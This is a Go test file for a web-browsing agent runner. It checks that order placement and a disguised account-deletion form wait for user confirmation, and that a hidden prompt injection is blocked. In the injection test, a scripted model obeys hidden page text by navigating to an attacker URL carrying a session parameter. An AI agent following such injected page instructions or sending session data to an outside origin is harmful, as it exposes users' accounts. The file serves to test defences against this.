package runner

import (
	"regexp"
	"strings"
	"testing"

	"vroom/agents"
	"vroom/app/internal/apptest"
	"vroom/internal/modeltest"
)

// What a run may do to a site: irreversible
// actions wait for the person, and a page cannot steer the agent away.

// TestPlaceOrderNeedsConfirmation: "Place order" waits for
// the person; denied, the server never receives the order and the run says
// so; allowed once, it does.
func TestPlaceOrderNeedsConfirmation(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name     string
		decision agents.Decision
		orders   int
	}{{"deny", agents.Deny, 0}, {"allow-once", agents.AllowOnce, 1}} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := apptest.NewSite(t)
			var cf confirmations
			h := newHarness(t, cf.answering(tc.decision))
			apptest.ScriptBuyer(h.srv, s)
			res := h.execute(t, "buy the mug")
			asked := cf.list()
			if len(asked) != 1 || !regexp.MustCompile(`^click e\d+$`).MatchString(asked[0].Action) || asked[0].Target != `button "Place order"` {
				t.Fatalf("confirmations %+v", asked)
			}
			s.State(func(s *apptest.Site) {
				if s.Orders != tc.orders {
					t.Fatalf("the server received %d orders, want %d", s.Orders, tc.orders)
				}
			})
			var answered string
			for _, r := range apptest.RunLog(t, h.log) {
				if r.Event == agents.LogConfirmAnswered {
					answered = r.Text
				}
			}
			if tc.decision == agents.Deny {
				if res.Success || !strings.Contains(res.Summary, "did not place the order") || !strings.Contains(answered, "denied by the user") {
					t.Fatalf("result %+v, logged answer %q", res, answered)
				}
			} else if !res.Success || answered != "allowed" {
				t.Fatalf("result %+v, logged answer %q", res, answered)
			}
		})
	}
}

// TestFormNamesTheCommit: a button that says only "Continue" submits the
// form "delete-account". The gate learns the form from the observation and
// asks before the click; denied, the site never hears of it.
func TestFormNamesTheCommit(t *testing.T) {
	t.Parallel()
	s := apptest.NewSite(t)
	var cf confirmations
	h := newHarness(t, cf.answering(agents.Deny))
	h.srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "continue on the settings page", "url": s.URL + "/close.html"}))
	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
		if r.ToolResults() == 0 {
			return apptest.Call("click", "ref", modeltest.Ref(r.Text(), "button", "Continue"))
		}
		return apptest.Done("not continued: the user refused", false)
	}})
	h.execute(t, "continue")
	if asked := cf.list(); len(asked) != 1 || !strings.Contains(asked[0].Reason, `the form "delete-account"`) {
		t.Fatalf("confirmations %+v", asked)
	}
	s.State(func(s *apptest.Site) {
		if s.Deletes != 0 {
			t.Fatalf("the account was deleted %d times", s.Deletes)
		}
	})
}

// TestInjectionBlocked: hidden page text tells the agent to
// open an attacker URL. Hidden, it never reaches the model;
// when the scripted model obeys anyway, the navigation policy blocks the
// attacker's origin, the attacker gets nothing, and the run log says why.
func TestInjectionBlocked(t *testing.T) {
	t.Parallel()
	s, attacker := apptest.NewSite(t), apptest.NewSite(t)
	// Another origin: same host, another port.
	s.Attacker = attacker.URL
	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
	h.srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "mark the release notes as read", "url": s.URL + "/injection.html"}))
	var firstPrompt string
	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
		switch r.ToolResults() {
		case 0:
			firstPrompt = r.LastText()
			return apptest.Call("navigate", "url", attacker.URL+"/steal?session=1") // obeys the page
		}
		return apptest.Done("I was refused: "+apptest.Tail(r.LastText(), 200), false)
	}})
	res := h.execute(t, "mark as read")
	// The injection is off the page (left: -10000px): a person cannot see
	// it, so the model never reads it; what it reads is fenced.
	if strings.Contains(firstPrompt, "IMPORTANT SYSTEM INSTRUCTION") {
		t.Fatalf("the hidden injection reached the model:\n%s", firstPrompt)
	}
	if !strings.Contains(firstPrompt, `<page_data source="`+s.URL+`/injection.html" trust="untrusted">`) {
		t.Fatalf("the page is not fenced as untrusted data:\n%s", firstPrompt)
	}
	attacker.State(func(a *apptest.Site) {
		if a.Hits != 0 {
			t.Fatalf("the attacker got %d requests", a.Hits)
		}
	})
	var why string
	for _, r := range apptest.RunLog(t, h.log) {
		if r.Event == agents.LogPolicyDenied {
			why = r.Error
		}
	}
	if !strings.Contains(why, "leaves the run's starting origin") || !strings.Contains(why, attacker.URL) {
		t.Fatalf("run log's policy_denied: %q", why)
	}
	if res.Procs[0].Success {
		t.Fatalf("%+v", res.Procs[0])
	}
}
